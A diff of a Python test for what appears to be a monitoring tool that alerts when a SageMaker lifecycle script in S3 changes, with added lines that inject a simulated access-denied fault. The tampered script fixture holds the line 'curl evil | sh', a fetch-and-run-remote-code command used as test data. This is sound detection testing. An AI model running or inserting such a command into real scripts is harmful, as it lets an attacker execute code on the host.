@@ -266,6 +266,12 @@ def test_a_changed_lifecycle_script_alerts_and_resolves_when_restored(
     s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/sh\ncurl evil | sh\n")
     alert = fire_and_clear(setup, "lifecycle_script_changed", f"script/s3://{bucket}/{key}")
     s3.put_object(Bucket=bucket, Key=key, Body=LIFECYCLE_SCRIPT.encode())
+    # Restored, but the cluster cannot be read now: unknown is not resolved.
+    fault = {"kind": "error", "service": "sagemaker", "operation": "DescribeCluster",
+             "code": "AccessDeniedException", "message": "denied by the test", "status": 400}
+    added = twin_post(twin_process, "/_twin/faults", fault)["faults"][0]["id"]
+    assert run(setup)[1] == []
+    httpx.delete(f"{twin_process.endpoint_url}/_twin/faults/{added}", verify=SSL_CONTEXT).raise_for_status()
     resolved(setup, alert)
 
 
